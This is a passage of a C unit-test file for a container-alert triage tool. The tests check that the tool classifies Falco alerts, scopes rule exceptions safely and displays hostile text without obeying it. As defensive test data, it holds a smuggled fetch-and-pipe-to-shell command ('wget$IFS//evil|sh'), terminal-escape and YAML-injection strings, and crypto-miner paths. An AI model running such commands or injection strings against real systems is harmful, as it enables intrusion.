	assert_string_equal(scalar(item(&doc, row, 1)), "/usr/bin/sqlite3");
	assert_string_equal(scalar(item(&doc, row, 2)), "docker.io/library/alpine");
	/* [1]: the hostile path reads back exactly. */
	e = item(&doc, ex, 1);
	row = item(&doc, get(&doc, e, "values"), 0);
	assert_string_equal(scalar(item(&doc, row, 0)), "shop");
	assert_string_equal(scalar(item(&doc, row, 1)), HOSTILE_EXE);
	assert_string_equal(scalar(item(&doc, row, 2)), "registry.example/\"r\"");
	/* [2]: the same scope name as [0], without image: two fields, a distinct name. */
	e = item(&doc, ex, 2);
	assert_string_equal(scalar(get(&doc, e, "name")), "reflex_headscale_usr_bin_sqlite3_2");
	assert_int_equal(seq_len(get(&doc, e, "fields")), 2);
	assert_int_equal(seq_len(item(&doc, get(&doc, e, "values"), 0)), 2);

	rule = item(&doc, root, 2);
	assert_string_equal(scalar(get(&doc, rule, "rule")), API_RULE);
	e = item(&doc, get(&doc, rule, "exceptions"), 0);
	assert_string_equal(scalar(get(&doc, e, "name")), "reflex_flux_system_usr_local_bin_kustomize_controller");
	/* Nothing disables, replaces or re-conditions a rule. */
	assert_no_key(&doc, "enabled");
	assert_no_key(&doc, "condition");
	assert_null(strstr(yaml, "replace"));
	/* The comment's newline did not become YAML. */
	assert_non_null(strstr(yaml, "    # gitops?- rule: injected\n"));
	yaml_document_delete(&doc);
	free(yaml);
}

static void test_reflex_exceptions_load_in_config(void **state)
{
	struct reflex_config *c = NULL;
	char *yaml, *text, err[512];

	(void)state;
	assert_int_equal(triage_reflex_exceptions(scopes, 4, &yaml, err, sizeof(err)), 0);
	assert_true(asprintf(&text,
			     "allowed_namespaces: [\"*\"]\n"
			     "rules:\n"
			     "  - name: %s\n    action: kill_process\n"
			     "  - name: %s\n    action: alert\n"
			     "%s",
			     EXEC_RULE, API_RULE, yaml) > 0);
	if (config_parse("generated.yaml", text, strlen(text), &c, err, sizeof(err)))
		fail_msg("config rejects the generated exceptions: %s\n%s", err, yaml);
	assert_int_equal(c->n_exceptions, 4);
	assert_string_equal(c->exceptions[0].rule, EXEC_RULE);
	assert_string_equal(c->exceptions[0].namespace_, "headscale");
	assert_string_equal(c->exceptions[0].exe_path, "/usr/bin/sqlite3");
	/* The image glob takes any tag now and the digest after the bake, nothing else. */
	assert_int_equal(fnmatch(c->exceptions[0].image, "docker.io/library/alpine:3.20", 0), 0);
	assert_int_equal(fnmatch(c->exceptions[0].image, "docker.io/library/alpine@sha256:0123abcd", 0), 0);
	assert_int_not_equal(fnmatch(c->exceptions[0].image, "docker.io/library/alpine-evil:3.20", 0), 0);
	assert_int_not_equal(fnmatch(c->exceptions[0].image, "docker.io/library/alpine", 0), 0);
	assert_null(c->exceptions[1].image);
	/* The exe path glob (as policy.c matches it) takes exactly the hostile path. */
	assert_int_equal(fnmatch(c->exceptions[2].exe_path, HOSTILE_EXE, FNM_PATHNAME), 0);
	assert_int_not_equal(fnmatch(c->exceptions[2].exe_path, "/opt/we\"ird\\ [dir]/anything", FNM_PATHNAME), 0);
	assert_int_not_equal(fnmatch(c->exceptions[2].exe_path, "/opt/we\"ird\\ d/*x\n- rule: y\t\xc3\xa9\xe2\x80\xa8",
				     FNM_PATHNAME),
			     0);
	assert_int_equal(fnmatch(c->exceptions[2].image, "registry.example/\"r\":1", 0), 0);
	config_free(c);
	free(text);
	free(yaml);
}

static void test_scope_refusals(void **state)
{
	struct triage_scope s = { .rule = EXEC_RULE, .namespace_ = "shop", .exe_path = "/bin/x" };
	char *yaml = NULL, err[256];

	(void)state;
	s.namespace_ = NULL;
	assert_int_equal(triage_falco_override(&s, 1, &yaml, err, sizeof(err)), -EINVAL);
	assert_contains(err, "an exception without one would cover the rule in every namespace");
	s.namespace_ = "shop";
	s.exe_path = NULL;
	assert_int_equal(triage_reflex_exceptions(&s, 1, &yaml, err, sizeof(err)), -EINVAL);
	assert_contains(err, "would cover every program in the namespace");
	s.exe_path = "bin/x";
	assert_int_equal(triage_falco_override(&s, 1, &yaml, err, sizeof(err)), -EINVAL);
	s.exe_path = "/bin/\xff";
	assert_int_equal(triage_falco_override(&s, 1, &yaml, err, sizeof(err)), -EINVAL);
	s.exe_path = "/bin/x";
	s.namespace_ = "Shop_1";
	assert_int_equal(triage_falco_override(&s, 1, &yaml, err, sizeof(err)), -EINVAL);
	assert_contains(err, "is not a Kubernetes namespace name");
	s.namespace_ = "shop";
	s.rule = "";
	assert_int_equal(triage_falco_override(&s, 1, &yaml, err, sizeof(err)), -EINVAL);
	assert_null(yaml);
}

/* ---- fixes -------------------------------------------------------------- */

static void fix(const struct triage_baseline *b, const struct ev *e, struct triage_verdict *v, struct triage_fix *f)
{
	struct triage_event ev = event(e);

	assert_int_equal(triage_classify(b, &ev, v), 0);
	assert_int_equal(triage_fix_for(&ev, v, f), 0);
}

static void test_fixes(void **state)
{
	struct triage_baseline *b = shipped();
	struct triage_verdict v;
	struct triage_fix f;
	struct triage_event ev;
	char *g;

	(void)state;
	/* The backup job: bake first (package from the baseline), exception second. */
	fix(b,
	    &(struct ev){ .rule = EXEC_RULE, .ns = "headscale", .pod = "headscale-backup-29391780-mz8qd",
			  .exe = "/usr/bin/sqlite3", .image = "docker.io/library/alpine:3.20", .parent = "sh",
			  .gparent = "backup.sh" },
	    &v, &f);
	assert_int_equal(f.preferred, TRIAGE_FIX_IMAGE_BAKE);
	assert_string_equal(f.bake_package, "sqlite");
	assert_string_equal(f.bake_dockerfile, "RUN apk add --no-cache sqlite");
	assert_contains(f.bake_text, "bake sqlite (provides /usr/bin/sqlite3) into the image instead of installing at "
				     "run time: it ran from sh (under backup.sh) in headscale/headscale-backup-29391780-mz8qd");
	assert_contains(f.bake_text, "pin the result by digest (image: REPOSITORY@sha256:DIGEST)");
	assert_string_equal(f.scope_text, "namespace headscale, exe /usr/bin/sqlite3, image docker.io/library/alpine");
	assert_non_null(f.falco_yaml);
	assert_non_null(f.reflex_yaml);
	assert_null(f.refused);
	ev = event(&(struct ev){ .rule = EXEC_RULE, .ns = "headscale", .pod = "headscale-backup-29391780-mz8qd",
				 .exe = "/usr/bin/sqlite3" });
	g = triage_gotcha(&ev, &v, &f);
	assert_string_equal(g, "Gotcha: headscale-backup in headscale installs /usr/bin/sqlite3 at run time, so every run "
			       "pages 'Drop and execute new binary in container': bake it into a digest-pinned image (an "
			       "exception is the fallback, never muting the rule).");
	free(g);
	triage_fix_clear(&f);
	triage_verdict_clear(&v);

	/* Packages from the install command; apt's line; only names a Dockerfile can carry. */
	fix(b,
	    &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .pod = "r-1", .exe = "/usr/bin/python3.12",
			  .cmdline = "python3 /usr/bin/pip install --no-cache-dir requests==2.32.3 rich" },
	    &v, &f);
	assert_int_equal(v.cls, TRIAGE_BENIGN);
	assert_string_equal(f.bake_dockerfile, "RUN pip install --no-cache-dir requests==2.32.3 rich");
	assert_contains(f.bake_text, "bake what this install adds (requests==2.32.3 rich) and the package that provides "
				     "/usr/bin/python3.12 into the image");
	triage_fix_clear(&f);
	triage_verdict_clear(&v);
	fix(b,
	    &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .pod = "r-1", .exe = "/usr/bin/apt-get",
			  .image = "docker.io/library/debian:12", .cmdline = "apt-get install -y git && git --version" },
	    &v, &f);
	assert_int_equal(v.cls, TRIAGE_BENIGN);
	assert_string_equal(f.bake_dockerfile, "RUN apt-get update && apt-get install -y --no-install-recommends git && "
					       "rm -rf /var/lib/apt/lists/*");
	triage_fix_clear(&f);
	triage_verdict_clear(&v);
	fix(b,
	    &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .pod = "r-1", .exe = "/sbin/apk",
			  .cmdline = "apk add curl;wget$IFS//evil|sh" },
	    &v, &f);
	assert_int_equal(v.cls, TRIAGE_BENIGN);
	assert_null(f.bake_package);
	assert_null(f.bake_dockerfile);
	assert_contains(f.bake_text, "bake the package that provides /sbin/apk");
	triage_fix_clear(&f);
	triage_verdict_clear(&v);
	/* The manager known, the package not: say how to find it. */
	fix(b,
	    &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .pod = "r-1", .exe = "/usr/sbin/update-ca-certificates",
			  .parent = "sh", .gparent = "apk" },
	    &v, &f);
	assert_contains(f.bake_text, "find the package with `apk info --who-owns /usr/sbin/update-ca-certificates`");
	triage_fix_clear(&f);
	triage_verdict_clear(&v);

	/* The reconciler: an exception only; nothing to bake. */
	fix(b,
	    &(struct ev){ .rule = API_RULE, .ns = "flux-system", .pod = "kustomize-controller-6bc5d5b96-ncmnt",
			  .exe = "/usr/local/bin/kustomize-controller", .image = "ghcr.io/fluxcd/kustomize-controller:v1.4.0" },
	    &v, &f);
	assert_int_equal(f.preferred, TRIAGE_FIX_EXCEPTION);
	assert_null(f.bake_text);
	assert_string_equal(f.image_repo, "ghcr.io/fluxcd/kustomize-controller");
	triage_fix_clear(&f);
	triage_verdict_clear(&v);

	triage_baseline_free(b);
}

static void test_fix_refuses(void **state)
{
	struct triage_baseline *b = shipped();
	struct triage_verdict v;
	struct triage_fix f;

	(void)state;
	/* Unknown and real: no image change, no exception, never a disabled rule. */
	fix(b, &(struct ev){ .rule = "Terminal shell in container", .ns = "shop", .exe = "/bin/bash" }, &v, &f);
	assert_int_equal(f.preferred, TRIAGE_FIX_NONE);
	assert_null(f.falco_yaml);
	assert_null(f.reflex_yaml);
	assert_null(f.bake_text);
	assert_contains(f.refused, "unknown is treated as real; escalate to a security review");
	triage_fix_clear(&f);
	triage_verdict_clear(&v);
	fix(b, &(struct ev){ .rule = EXEC_RULE, .ns = "production", .exe = "/tmp/.x/kworkerds" }, &v, &f);
	assert_int_equal(f.preferred, TRIAGE_FIX_NONE);
	assert_null(f.falco_yaml);
	assert_contains(f.refused, "never excepted");
	triage_fix_clear(&f);
	triage_verdict_clear(&v);
	assert_int_equal(triage_fix_for(&(struct triage_event){ .rule = (char *)EXEC_RULE }, NULL, &f), 0);
	assert_int_equal(f.preferred, TRIAGE_FIX_NONE);
	triage_fix_clear(&f);

	/* Benign, but no namespace: an exception would cover every namespace, so none. */
	fix(b, &(struct ev){ .rule = EXEC_RULE, .exe = "/usr/bin/x", .parent = "apk" }, &v, &f);
	assert_int_equal(v.cls, TRIAGE_BENIGN);
	assert_null(f.falco_yaml);
	assert_null(f.reflex_yaml);
	assert_contains(f.refused, "no exception: the event names no namespace");
	assert_non_null(f.bake_text); /* the bake still applies */
	assert_int_equal(f.preferred, TRIAGE_FIX_IMAGE_BAKE);
	triage_fix_clear(&f);
	triage_verdict_clear(&v);
	triage_baseline_free(b);
	/* Benign, but no exe path: neither fix can be scoped. */
	b = baseline("benign:\n  - name: ci\n    rule: Drop and execute new binary in container\n    why: w\n"
		     "    namespaces: [ci]\n");
	fix(b, &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .parent = "apk" }, &v, &f);
	assert_int_equal(v.cls, TRIAGE_BENIGN);
	assert_int_equal(f.preferred, TRIAGE_FIX_NONE);
	assert_null(f.bake_text);
	assert_null(f.falco_yaml);
	assert_contains(f.refused, "no exception: the event names no exe path");
	triage_fix_clear(&f);
	triage_verdict_clear(&v);
	triage_baseline_free(b);
}

static void test_image_repository(void **state)
{
	char *r;

	(void)state;
	assert_string_equal((r = triage_image_repository("docker.io/library/alpine:3.20")), "docker.io/library/alpine");
	free(r);
	assert_string_equal((r = triage_image_repository("registry:5000/team/app")), "registry:5000/team/app");
	free(r);
	assert_string_equal((r = triage_image_repository("registry:5000/team/app:1.2@sha256:abc")),
			    "registry:5000/team/app:1.2");
	free(r);
	assert_string_equal((r = triage_image_repository("alpine")), "alpine");
	free(r);
	assert_null(triage_image_repository(NULL));
	assert_null(triage_image_repository(""));
}

/* ---- the CLI against files ---------------------------------------------- */

struct run {
	int status;
	char *out, *err;
};

static struct run run(int argc, const char *const *argv)
{
	char *args[24];
	struct run r = { 0 };
	size_t olen, elen;
	FILE *out = open_memstream(&r.out, &olen), *err = open_memstream(&r.err, &elen);

	assert_true(argc < 24);
	assert_non_null(out);
	assert_non_null(err);
	for (int i = 0; i < argc; i++)
		args[i] = (char *)argv[i];
	args[argc] = NULL;
	r.status = triage_main(argc, args, out, err);
	fclose(out);
	fclose(err);
	return r;
}

#define RUN(...) run(sizeof((const char *[]){ __VA_ARGS__ }) / sizeof(const char *), (const char *[]){ __VA_ARGS__ })

static void run_free(struct run *r)
{
	free(r->out);
	free(r->err);
}

static void test_cli_alerts_file(void **state)
{
	struct run r;

	(void)state;
	r = RUN("triage", "classify", "--alerts", FIXTURE_ALERTS, "--baseline", SHIPPED_BASELINE);
	assert_int_equal(r.status, 0);
	assert_contains(r.out, "query: every event in the file\n");
	assert_contains(r.out, "4 events in 4 groups, newest first:");
	assert_contains(r.out, "benign-true-positive  Drop and execute new binary in container [Critical]\n"
			       "        namespace headscale  pod headscale-backup-29391780-mz8qd  exe /usr/bin/sqlite3\n");
	assert_contains(r.out, "summary: 2 real, 1 unknown, 1 benign-true-positive groups; escalate 3 to a security "
			       "review");
	assert_string_equal(r.err, "");
	run_free(&r);

	r = RUN("triage", "fix", "--alerts", FIXTURE_ALERTS, "--rule", EXEC_RULE, "--namespace", "headscale", "--json");
	assert_int_equal(r.status, 0);
	assert_contains(r.out, "\"falco_rules_yaml\": \"# Falco rules override");
	assert_contains(r.out, "\"preferred\": \"image-bake\"");
	run_free(&r);

	/* Old alerts: nothing in the last 5 minutes. */
	r = RUN("triage", "verify", "--alerts", FIXTURE_ALERTS, "--rule", EXEC_RULE, "--namespace", "headscale");
	assert_int_equal(r.status, 0);
	assert_contains(r.out, "last 5m: no events: the fix holds");
	run_free(&r);
	r = RUN("triage", "verify", "--alerts", FIXTURE_ALERTS, "--rule", EXEC_RULE, "--namespace", "headscale",
		"--since", "1000d");
	assert_int_equal(r.status, 3);
	assert_contains(r.out, "1 event remains, newest 2025-11-21T03:00:04.112233445Z");
	run_free(&r);

	r = RUN("triage", "report", "--alerts", FIXTURE_ALERTS, "--rule", "Detect crypto miners using the Stratum protocol",
		"--namespace", "production", "--baseline", SHIPPED_BASELINE);
	assert_int_equal(r.status, 0);
	assert_contains(r.out, "classification real: escalate to a security review");
	assert_contains(r.out, "    Gotcha: 'Detect crypto miners using the Stratum protocol' from /tmp/.x/kworkerds in "
			       "production was real (crypto-miner-rules)");
	run_free(&r);
}

static char *temp_file(const char *content)
{
	char *path = strdup("/tmp/reflex-triage-test-XXXXXX");
	int fd;

	assert_non_null(path);
	fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, content, strlen(content)), (ssize_t)strlen(content));
	close(fd);
	return path;
}

static void test_cli_hostile_text_and_audit_log(void **state)
{
	char *path, line[1024];
	struct run r;

	(void)state;
	/* A cmdline with terminal escapes is shown, never obeyed. */
	snprintf(line, sizeof(line),
		 "Falco 0.40.0 starting\n"
		 "{\"output\":\"x\",\"priority\":\"Critical\",\"rule\":\"%s\",\"time\":\"2025-11-21T03:00:04Z\","
		 "\"output_fields\":{\"k8s.ns.name\":\"shop\",\"k8s.pod.name\":\"web\\u001b]0;pwn\\u0007\","
		 "\"proc.exepath\":\"/usr/bin/x\",\"proc.cmdline\":\"x \\u001b[2J\",\"proc.pname\":\"apk\"}}\n",
		 EXEC_RULE);
	path = temp_file(line);
	r = RUN("triage", "report", "--alerts", path, "--rule", EXEC_RULE, "--namespace", "shop", "--baseline",
		SHIPPED_BASELINE);
	assert_int_equal(r.status, 0);
	assert_null(strchr(r.out, '\x1b'));
	assert_null(strchr(r.out, '\x07'));
	assert_contains(r.out, "pod         web?]0;pwn?");
	assert_contains(r.out, "cmdline     x ?[2J");
	run_free(&r);
	r = RUN("triage", "events", "--alerts", path, "--json");
	assert_int_equal(r.status, 0);
	assert_contains(r.out, "\"skipped\": 1"); /* Falco's start-up line */
	run_free(&r);
	unlink(path);
	free(path);

	path = temp_file("{\"timestamp\":\"2026-11-22T11:40:02.123456Z\",\"action\":\"kill_process\",\"outcome\":\"killed\","
			 "\"namespace\":\"shop\",\"pod\":\"web-7d9c\",\"rule\":\"Drop and execute new binary in container\","
			 "\"falco_priority\":null,\"exe_path\":\"/tmp/xmrig\",\"image\":\"docker.io/library/busybox:1.36\","
			 "\"node\":\"it-node\",\"container_id\":null}\n"
			 "{\"timestamp\":\"2026-11-22T11:40:03Z\",\"action\":\"report\",\"outcome\":\"lost\",\"rule\":null}\n");
	r = RUN("triage", "events", "--audit-log", path, "--json");
	assert_int_equal(r.status, 0);
	assert_contains(r.out, "\"exe_path\": \"/tmp/xmrig\"");
	assert_contains(r.out, "\"skipped\": 1");
	assert_contains(r.out, "\"origin\": \"reflex audit log /tmp/reflex-triage-test-");
	run_free(&r);
	unlink(path);
	free(path);

	/* The last line of a log being written may be half there. */
	path = temp_file("{\"timestamp\":\"2026-11-22T11:40:02Z\",\"rule\":\"r\"}\n{\"timestamp\": \"2026-11-22T11:4");
	r = RUN("triage", "events", "--audit-log", path, "--json");
	assert_int_equal(r.status, 0);
	assert_contains(r.out, "\"events\": 1");
	assert_contains(r.out, "\"skipped\": 1");
	run_free(&r);
	unlink(path);
	free(path);

	path = temp_file("{\"timestamp\": \"2026-11-22T11:40:02Z\", \"rule\": \n");
	r = RUN("triage", "events", "--audit-log", path);
	assert_int_equal(r.status, 1);
	assert_contains(r.err, ":1: not a JSON audit record");
	run_free(&r);
	unlink(path);
	free(path);
}

static void test_cli_usage(void **state)
{
	struct run r;

	(void)state;
	unsetenv("REFLEX_VICTORIALOGS_URL");
	r = RUN("triage");
	assert_int_equal(r.status, 2);
	run_free(&r);
	r = RUN("triage", "--help");
	assert_int_equal(r.status, 0);
	assert_contains(r.out, "Usage: reflex triage COMMAND");
	run_free(&r);
	r = RUN("triage", "events");
	assert_int_equal(r.status, 2);
	assert_contains(r.err, "no event source");
	run_free(&r);
	r = RUN("triage", "verify", "--alerts", FIXTURE_ALERTS, "--namespace", "x");
	assert_int_equal(r.status, 2);
	assert_contains(r.err, "reflex triage verify: verify needs --rule and --namespace");
	run_free(&r);
	r = RUN("triage", "events", "--alerts", FIXTURE_ALERTS, "--since", "soon");
	assert_int_equal(r.status, 2);
	run_free(&r);
	r = RUN("triage", "events", "--alerts", FIXTURE_ALERTS, "--priority", "urgent");
	assert_int_equal(r.status, 2);
	run_free(&r);
	r = RUN("triage", "events", "--alerts", FIXTURE_ALERTS, "--baseline", SHIPPED_BASELINE);
	assert_int_equal(r.status, 2);
	run_free(&r);
	r = RUN("triage", "events", "--alerts", FIXTURE_ALERTS, "--limit", "0");
	assert_int_equal(r.status, 2);
	run_free(&r);
	r = RUN("triage", "events", "--alerts", FIXTURE_ALERTS, "--timeout");
	assert_int_equal(r.status, 2);
	assert_contains(r.err, "option '--timeout' needs a value");
	run_free(&r);
	r = RUN("triage", "events", "--alerts", FIXTURE_ALERTS, "extra");
	assert_int_equal(r.status, 2);
	run_free(&r);
	r = RUN("triage", "classify", "--help");
	assert_int_equal(r.status, 0);
	assert_contains(r.out, "Usage: reflex triage classify");
	run_free(&r);
	r = RUN("triage", "events", "--alerts", "/nonexistent/alerts");
	assert_int_equal(r.status, 1);
	assert_string_equal(r.err, "reflex triage events: /nonexistent/alerts: No such file or directory\n");
	run_free(&r);
	setenv("REFLEX_VICTORIALOGS_URL", "gopher://x", 1);
	r = RUN("triage", "events");
	assert_int_equal(r.status, 1);
	assert_contains(r.err, "is not http:// or https://");
	run_free(&r);
	unsetenv("REFLEX_VICTORIALOGS_URL");
}

/* ---- VictoriaLogs over HTTP: a local server that answers, fails, stalls -- */

enum vl_mode { VL_OK, VL_500, VL_GARBAGE, VL_STALL };

struct vl_server {
	struct MHD_Daemon *daemon;
	unsigned short port;
	enum vl_mode mode;
	pthread_mutex_t lock;
	char query[1024];
	char method[16];
};

static enum MHD_Result vl_handle(void *cls, struct MHD_Connection *conn, const char *url, const char *method,
				 const char *version, const char *upload_data, size_t *upload_data_size,
				 void **con_cls)
{
	static const char ok[] = "{\"_time\":\"2026-11-22T11:40:02Z\",\"rule\":\"Drop and execute new binary in "
				 "container\",\"k8s_ns_name\":\"headscale\",\"proc_exepath\":\"/usr/bin/sqlite3\"}\n";
	static const char garbage[] = "<!doctype html><title>proxy login</title>\n";
	static const char failed[] = "cannot execute query: storage is read-only\n";
	struct vl_server *s = cls;
	struct MHD_Response *resp;
	const char *body = ok;
	unsigned int status = 200;
	enum MHD_Result ret;

	(void)version;
	if (strcmp(url, "/select/logsql/query"))
		return MHD_NO;
	if (!*con_cls) {
		*con_cls = s; /* first call: headers only */
		return MHD_YES;
	}
	if (*upload_data_size) {
		pthread_mutex_lock(&s->lock);
		snprintf(s->query, sizeof(s->query), "%.*s", (int)*upload_data_size, upload_data);
		pthread_mutex_unlock(&s->lock);
		*upload_data_size = 0;
		return MHD_YES;
	}
	pthread_mutex_lock(&s->lock);
	snprintf(s->method, sizeof(s->method), "%s", method);
	pthread_mutex_unlock(&s->lock);
	switch (s->mode) {
	case VL_500:
		status = 500;
		body = failed;
		break;
	case VL_GARBAGE:
		body = garbage;
		break;
	case VL_STALL:
		usleep(1500 * 1000); /* far past the client's timeout */
		break;
	case VL_OK:
	default:
		break;
	}
	resp = MHD_create_response_from_buffer(strlen(body), (void *)body, MHD_RESPMEM_PERSISTENT);
	if (!resp)
		return MHD_NO;
	ret = MHD_queue_response(conn, status, resp);
	MHD_destroy_response(resp);
	return ret;
}

static struct vl_server *vl_start(enum vl_mode mode)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	struct vl_server *s = calloc(1, sizeof(*s));
	const union MHD_DaemonInfo *info;

	assert_non_null(s);
	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	s->mode = mode;
	assert_int_equal(pthread_mutex_init(&s->lock, NULL), 0);
	s->daemon = MHD_start_daemon(MHD_USE_POLL_INTERNAL_THREAD, 0, NULL, NULL, vl_handle, s, MHD_OPTION_SOCK_ADDR,
				     (struct sockaddr *)&sin, MHD_OPTION_END);
	assert_non_null(s->daemon);
	info = MHD_get_daemon_info(s->daemon, MHD_DAEMON_INFO_BIND_PORT);
	assert_non_null(info);
	s->port = info->port;
	return s;
}

static void vl_stop(struct vl_server *s)
{
	MHD_stop_daemon(s->daemon);
	pthread_mutex_destroy(&s->lock);
	free(s);
}

static int vl_fetch(struct vl_server *s, const char *path, unsigned int timeout_ms, struct triage_events *ev,
		    char *err, size_t errlen)
{
	char url[128];
	struct triage_source src = { .kind = TRIAGE_SOURCE_VICTORIALOGS, .location = url, .timeout_ms = timeout_ms };
	struct triage_query q = { .rule = EXEC_RULE, .namespace_ = "headscale", .since = "5m", .limit = 50 };

	snprintf(url, sizeof(url), "http://127.0.0.1:%u%s", s->port, path);
	return triage_fetch(&src, &q, ev, err, errlen);
}

static void test_victorialogs_http(void **state)
{
	struct triage_events ev;
	struct vl_server *s;
	struct timespec t0, t1;
	char err[512];
	long ms;

	(void)state;
	s = vl_start(VL_OK);
	/* Base URL with a trailing slash, or the endpoint itself: the same request. */
	assert_int_equal(vl_fetch(s, "/", 2000, &ev, err, sizeof(err)), 0);
	assert_int_equal(ev.n, 1);
	assert_string_equal(ev.items[0].exe_path, "/usr/bin/sqlite3");
	assert_string_equal(ev.query, "_time:5m source:=syscall rule:=\"Drop and execute new binary in container\" "
				      "k8s_ns_name:=\"headscale\" | sort by (_time desc)");
	assert_contains(ev.origin, "/select/logsql/query (limit 50)");
	pthread_mutex_lock(&s->lock);
	assert_string_equal(s->method, "POST");
	assert_string_equal(s->query, "query=_time%3A5m%20source%3A%3Dsyscall%20rule%3A%3D%22Drop%20and%20execute%20new"
				      "%20binary%20in%20container%22%20k8s_ns_name%3A%3D%22headscale%22%20%7C%20sort%20"
				      "by%20%28_time%20desc%29&limit=50");
	pthread_mutex_unlock(&s->lock);
	triage_events_clear(&ev);
	assert_int_equal(vl_fetch(s, "/select/logsql/query", 2000, &ev, err, sizeof(err)), 0);
	assert_int_equal(ev.n, 1);
	triage_events_clear(&ev);

	s->mode = VL_500;
	assert_int_equal(vl_fetch(s, "", 2000, &ev, err, sizeof(err)), -EPROTO);
	assert_contains(err, "/select/logsql/query answered HTTP 500: cannot execute query: storage is read-only");
	assert_int_equal(ev.n, 0);

	s->mode = VL_GARBAGE;
	assert_int_equal(vl_fetch(s, "", 2000, &ev, err, sizeof(err)), -EBADMSG);
	assert_contains(err, "answer line 1 is not a JSON object");
	assert_contains(err, "'<!doctype html><title>proxy login</title>'");

	s->mode = VL_STALL;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	assert_int_equal(vl_fetch(s, "", 200, &ev, err, sizeof(err)), -ETIMEDOUT);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	ms = (t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000;
	assert_true(ms < 1200);
	assert_contains(err, "no complete answer within 0.200 s (--timeout)");
	vl_stop(s);

	/* Nobody listening. */
	{
		struct triage_source src = { .kind = TRIAGE_SOURCE_VICTORIALOGS, .location = "http://127.0.0.1:1",
					     .timeout_ms = 1000 };
		struct triage_query q = { .since = "5m" };

		assert_int_equal(triage_fetch(&src, &q, &ev, err, sizeof(err)), -ECONNREFUSED);
		assert_contains(err, "VictoriaLogs http://127.0.0.1:1/select/logsql/query: ");
		/* Credentials in the URL never reach a message. */
		src.location = "http://reader:s3cret@127.0.0.1:1/";
		assert_int_equal(triage_fetch(&src, &q, &ev, err, sizeof(err)), -ECONNREFUSED);
		assert_contains(err, "VictoriaLogs http://***@127.0.0.1:1/select/logsql/query: ");
		assert_null(strstr(err, "s3cret"));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_durations_and_times),
		cmocka_unit_test(test_logsql_query),
		cmocka_unit_test(test_victorialogs_lines),
		cmocka_unit_test(test_victorialogs_spoofed_output_text),
		cmocka_unit_test(test_victorialogs_bad_answers),
		cmocka_unit_test(test_grouping_and_order),
		cmocka_unit_test(test_shipped_baseline_patterns),
		cmocka_unit_test(test_pattern_semantics),
		cmocka_unit_test(test_baseline_refuses_muting_and_bad_patterns),
		cmocka_unit_test(test_falco_override_exact),
		cmocka_unit_test(test_falco_override_parsed_back),
		cmocka_unit_test(test_reflex_exceptions_load_in_config),
		cmocka_unit_test(test_scope_refusals),
		cmocka_unit_test(test_fixes),
		cmocka_unit_test(test_fix_refuses),
		cmocka_unit_test(test_image_repository),
		cmocka_unit_test(test_cli_alerts_file),
		cmocka_unit_test(test_cli_hostile_text_and_audit_log),
		cmocka_unit_test(test_cli_usage),
		cmocka_unit_test(test_victorialogs_http),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
